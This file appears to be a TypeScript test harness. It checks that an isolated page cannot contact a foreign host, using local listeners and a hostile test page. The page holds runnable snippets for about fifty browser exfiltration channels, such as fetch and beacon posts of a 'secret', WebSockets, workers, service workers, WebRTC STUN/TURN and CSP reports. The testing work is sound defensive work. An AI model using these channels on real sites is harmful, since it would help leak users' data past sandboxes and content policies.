import { createSocket } from 'node:dgram'
import { createServer as createHttpServer } from 'node:http'
import { createServer, type AddressInfo, type Server, type Socket } from 'node:net'

/** A host that a page may not reach, with a port of its own for every way there. */
export interface ForeignHost {
  /** The ways by which something arrived, in alphabetical order. */
  readonly arrived: () => readonly string[]
  /** Resolves when something has arrived by every way. */
  readonly allArrived: Promise<void>
  /** Address of a way: host and port. */
  readonly place: (way: string) => string
  readonly close: () => void
}

/**
 * Ways by which a page can send something, as scripts: `$` stands for host and port of the way. A page at `/` tries all
 * of them. What a script returns is waited for.
 */
const BY_SCRIPT: Readonly<Record<string, string>> = {
  picture: `element('img', { src: 'https://$/' })`,
  'picture by address': `element('img', { src: 'https://$/' })`,
  script: `element('script', { src: 'https://$/' })`,
  style: `element('link', { rel: 'stylesheet', href: 'https://$/' })`,
  'import in a style': `element('style', { textContent: '@import "https://$/"' })`,
  video: `element('video', { src: 'https://$/', preload: 'auto' })`,
  object: `element('object', { data: 'https://$/', type: 'text/html' })`,
  embed: `element('embed', { src: 'https://$/', type: 'text/html' })`,
  frame: `element('iframe', { src: 'https://$/' })`,
  'picture in a srcdoc frame': `element('iframe', { srcdoc: '<img src="https://$/">' })`,
  'picture in a data frame': `element('iframe', { src: 'data:text/html,<img src="https://$/">' })`,
  'picture in a blob frame': `element('iframe', { src: URL.createObjectURL(new Blob(['<img src="https://$/">'], { type: 'text/html' })) })`,
  'redirect of a frame': `element('iframe', { src: '/to?https://$/' })`,
  'refresh of a frame': `element('iframe', { srcdoc: '<meta http-equiv="refresh" content="0;url=https://$/">' })`,
  'form in a frame': `form('https://$/')`,
  'redirect of a picture': `element('img', { src: '/to?https://$/' })`,
  'redirect of a fetch': `fetch('/to?https://$/', { mode: 'no-cors' })`,
  fetch: `fetch('https://$/?secret', { mode: 'no-cors' })`,
  'fetch with data': `fetch('https://$/', { mode: 'no-cors', method: 'POST', body: 'secret' })`,
  'fetch with data by address': `fetch('https://$/', { mode: 'no-cors', method: 'POST', body: 'secret' })`,
  'fetch that outlives the page': `fetch('https://$/', { mode: 'no-cors', method: 'POST', body: 'secret', keepalive: true })`,
  'fetch with a preflight': `fetch('https://$/', { method: 'PUT', body: 'secret' })`,
  XMLHttpRequest: `new Promise((done) => { const x = new XMLHttpRequest(); x.onloadend = done; x.open('POST', 'https://$/'); x.send('secret') })`,
  beacon: `navigator.sendBeacon('https://$/', 'secret')`,
  EventSource: `new EventSource('https://$/')`,
  WebSocket: `socket('wss://$/')`,
  'WebSocket by address': `socket('wss://$/')`,
  'WebSocket without TLS': `socket('ws://$/')`,
  ping: `ping('https://$/')`,
  download: `element('iframe', { srcdoc: '<a id="a" href="https://$/" download="x"></a><script>a.click()</' + 'script>' })`,
  preconnect: `element('link', { rel: 'preconnect', href: 'https://$/' })`,
  prefetch: `element('link', { rel: 'prefetch', href: 'https://$/' })`,
  preload: `element('link', { rel: 'preload', as: 'image', href: 'https://$/' })`,
  modulepreload: `element('link', { rel: 'modulepreload', href: 'https://$/' })`,
  'speculation rules': `element('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: ['https://$/'], eagerness: 'immediate' }] }) })`,
  'fetch in a worker': `worker("fetch('https://$/', { mode: 'no-cors', method: 'POST', body: 'secret' })")`,
  'script in a worker': `worker("importScripts('https://$/')")`,
  'WebSocket in a worker': `worker("new WebSocket('wss://$/')")`,
  'fetch in a worker of a worker': `worker("new Worker(URL.createObjectURL(new Blob([\`fetch('https://$/', { mode: 'no-cors' })\`])))")`,
  'fetch in a shared worker': `new SharedWorker('/worker.js?' + encodeURIComponent("fetch('https://$/', { mode: 'no-cors', method: 'POST', body: 'secret' })"))`,
  'WebSocket in a shared worker': `new SharedWorker('/worker.js?' + encodeURIComponent("new WebSocket('wss://$/')"))`,
  'fetch in a service worker': `serviceWorker('fetch', "fetch('https://$/', { mode: 'no-cors', method: 'POST', body: 'secret' })")`,
  'WebSocket in a service worker': `serviceWorker('socket', "new WebSocket('wss://$/')")`,
  'report of a policy': `element('iframe', { src: '/reporting?https://$/' })`,
}

/** Ways over UDP. */
const BY_UDP: Readonly<Record<string, string>> = {
  WebTransport: `new WebTransport('https://$/').ready`,
  'STUN of WebRTC': `peer({ urls: 'stun:$' })`,
  'TURN of WebRTC': `peer({ urls: 'turn:$?transport=udp', username: 'secret', credential: 'secret' })`,
}
/** WebRTC over TCP. */
const BY_TURN_TCP: Readonly<Record<string, string>> = {
  'TURN of WebRTC over TCP': `peer({ urls: 'turn:$?transport=tcp', username: 'secret', credential: 'secret' })`,
}

/** They go last: a page behind a window is slow. */
const BY_WINDOW: Readonly<Record<string, string>> = {
  window: `(open('https://$/'), new Promise(() => undefined))`,
  'window of a blob': `(open(URL.createObjectURL(new Blob(['<img src="https://$/">'], { type: 'text/html' }))), new Promise(() => undefined))`,
}

const TCP = { ...BY_SCRIPT, ...BY_TURN_TCP }

/** Every way, in alphabetical order. */
export const WAYS: readonly string[] = Object.keys({ ...TCP, ...BY_UDP, ...BY_WINDOW }).sort()

/** Opens a port for each way. @param host by which name the ports are reached; some ways have 127.0.0.1 in its place */
export async function foreignHost(host: string): Promise<ForeignHost> {
  const arrived = new Set<string>()
  const ports = new Map<string, number>()
  const closings: (() => void)[] = []
  let everything: () => void = () => undefined
  const allArrived = new Promise<void>((done) => {
    everything = done
  })
  const arrives = (way: string): void => {
    arrived.add(way)
    if (arrived.size === WAYS.length) everything()
  }
  for (const way of WAYS.filter((one) => !(one in BY_UDP))) {
    const server = createServer((socket) => {
      arrives(way)
      socket.destroy()
    })
    ports.set(way, await listening(server))
    closings.push(() => server.close())
  }
  for (const way of Object.keys(BY_UDP)) {
    const socket = createSocket('udp4', () => {
      arrives(way)
    })
    await new Promise<void>((done) => {
      socket.bind(0, '127.0.0.1', done)
    })
    ports.set(way, socket.address().port)
    closings.push(() => socket.close())
  }
  return {
    arrived: () => [...arrived].sort(),
    allArrived,
    place: (way) => {
      const byAddress = way.endsWith('by address') || way in BY_UDP || way in BY_TURN_TCP
      return `${byAddress ? '127.0.0.1' : host}:${String(ports.get(way))}`
    },
    close: () => {
      for (const close of closings) close()
    },
  }
}

/** A pod whose page tries every way to a foreign host. */
export interface HostilePod {
  readonly port: number
  /** Resolves when the page has tried everything. */
  readonly tried: Promise<void>
  readonly close: () => void
}

/** Starts a pod that answers with a page that tries every way, at `/`. */
export async function hostilePod(place: (way: string) => string): Promise<HostilePod> {
  let tried: () => void = () => undefined
  const ended = new Promise<void>((done) => {
    tried = done
  })
  const sockets = new Set<Socket>()
  const server = createHttpServer(({ url = '/' }, response) => {
    const [path, query = ''] = url.split(/\?(.*)/)
    const page = (type: string, body: string): void => {
      response.writeHead(200, { 'content-type': type, 'service-worker-allowed': '/' })
      response.end(body)
    }
    switch (path) {
      case '/':
        page('text/html', pageOf(place))
        return
      case '/worker.js':
        page('text/javascript', decodeURIComponent(query))
        return
      case '/to':
        response.writeHead(307, { location: query }).end()
        return
      case '/reporting':
        response.writeHead(200, {
          'content-type': 'text/html',
          'content-security-policy': `img-src 'none'; report-uri ${query}`,
        })
        response.end('<img src="/x">')
        return
      case '/tried':
        page('text/plain', '')
        tried()
        return
      default:
        response.writeHead(404).end()
    }
  })
  server.on('connection', (socket) => sockets.add(socket))
  return {
    port: await listening(server),
    tried: ended,
    close: () => {
      server.close()
      for (const socket of sockets) socket.destroy()
    },
  }
}

function pageOf(place: (way: string) => string): string {
  const scriptsOf = (ways: Readonly<Record<string, string>>): string =>
    Object.entries(ways)
      .map(([way, script]) => `() => ${script.replaceAll('$', place(way))}`)
      .join()
  return `<!DOCTYPE html><title>Security Console</title><body><script>
    const element = (name, members) => document.body.appendChild(Object.assign(document.createElement(name), members))
    const settled = (target, ...events) =>
      new Promise((done) => { for (const event of events) target.addEventListener(event, done) })
    const socket = (url) => settled(new WebSocket(url), 'close')
    const form = (action) => {
      element('iframe', { name: 'posted' })
      const form = element('form', { action, method: 'post', target: 'posted' })
      form.submit()
    }
    const ping = (url) => {
      const link = element('a', { href: '#', ping: url })
      link.click()
    }
    const worker = (script) =>
      new Worker(URL.createObjectURL(new Blob([script])))
    const serviceWorker = async (scope, script) => {
      const path = '/worker.js?' + encodeURIComponent('self.oninstall = () => {' + script + '}')
      await navigator.serviceWorker.register(path, { scope: '/' + scope })
    }
    const peer = async (server) => {
      const connection = new RTCPeerConnection({ iceServers: [server] })
      connection.createDataChannel('x')
      const gathered = settled(connection, 'icegatheringstatechange')
      await connection.setLocalDescription(await connection.createOffer())
      await gathered
    }
    const patience = (promise) => Promise.race([promise, new Promise((done) => setTimeout(done, 3000))])
    const tryAll = (ways) => Promise.allSettled(ways.map((way) => patience((async () => way())())))
    addEventListener('load', async () => {
      await tryAll([${scriptsOf({ ...TCP, ...BY_UDP })}])
      await tryAll([${scriptsOf(BY_WINDOW)}])
      await fetch('/tried')
    })
  </script>`
}

async function listening(server: Server): Promise<number> {
  await new Promise<void>((done) => {
    server.listen(0, '127.0.0.1', done)
  })
  return (server.address() as AddressInfo).port
}
